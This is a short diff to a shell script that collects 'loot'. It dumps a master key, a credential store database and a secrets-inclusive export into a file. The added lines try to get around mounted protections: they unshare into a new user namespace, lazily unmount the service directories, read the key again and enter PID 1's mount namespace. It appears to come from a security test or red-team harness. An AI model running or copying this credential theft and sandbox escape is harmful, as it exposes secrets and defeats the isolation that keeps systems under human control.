@@ -73,6 +73,9 @@ exec 3>"\$loot/all"
 echo "== master key" >&3; cat "$key" >&3 2>&1
 echo "== store dir" >&3; ls -la "$SVCCONN_HOME" >&3 2>&1
 echo "== store db" >&3; cat "$SVCCONN_HOME/store.db" >&3 2>&1
+echo "== unmount" >&3   # a user namespace of its own, then unmount the cover
+unshare -rm sh -c "umount -l '$SVCCONN_HOME'; umount -l '$SVCCONN_JOBS_DIR'; ls -la '$SVCCONN_HOME'; cat '$key'" >&3 2>&1
+nsenter -t 1 -m ls -la "$SVCCONN_HOME" >&3 2>&1
 echo "== export" >&3
 SVCCONN_HOME="$SVCCONN_HOME" "$SVC_BIN_DIR/svcconn" export --include-secrets -o "\$loot/export.yml" >&3 2>&1
 cat "\$loot/export.yml" >&3 2>&1
